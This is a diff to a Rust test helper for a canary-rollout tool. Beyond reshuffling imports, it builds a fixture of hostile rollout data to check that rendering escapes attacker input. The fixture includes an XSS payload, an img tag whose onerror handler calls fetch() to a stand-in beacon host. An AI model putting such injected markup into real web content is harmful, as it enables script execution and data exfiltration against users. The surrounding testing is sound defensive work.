@@ -456,12 +456,10 @@ fn http_answer(status: &str, kind: &str, body: &str) -> String {
 /// A rollout written by other people: its name, service, version names, message, history
 /// (actor and words), verdict reasons and check names are hostile, as is what Prometheus
 /// answers. `beacon` is where the payloads would call if they ran.
-fn hostile_rollout(beacon: &str) -> (stickyctl::model::StickyCanary, Vec<String>) {
+fn hostile_rollout(beacon: &str) -> (api::StickyCanary, Vec<String>) {
+    use analysis::{judge, AnalysisSpec, Counter, Evidence, Snapshot, StepPlan};
+    use api::{HistoryEntry, StepVerdict, StickyCanary, StickyCanarySpec, StickyCanaryStatus};
     use sticky_canary_filter::VersionWeight;
-    use stickyctl::analysis::{judge, AnalysisSpec, Counter, Evidence, Snapshot, StepPlan};
-    use stickyctl::model::{
-        HistoryEntry, StepVerdict, StickyCanary, StickyCanarySpec, StickyCanaryStatus,
-    };
     let img =
         format!("<img src=x onerror=\"window.__pwned='img';fetch('http://{beacon}/onerror')\">");
     let script = format!(
@@ -475,7 +473,7 @@ fn hostile_rollout(beacon: &str) -> (stickyctl::model::StickyCanary, Vec<String>
     spec.versions[0].weight = 95.0;
     spec.versions.push(VersionWeight::new(&canary, 5.0));
     let analysis = AnalysisSpec::default();
-    let sample = |version: &str, requests: u64| stickyctl::analysis::VersionSample {
+    let sample = |version: &str, requests: u64| analysis::VersionSample {
         version: version.to_owned(),
         requests: Counter::single(requests),
         ..Default::default()
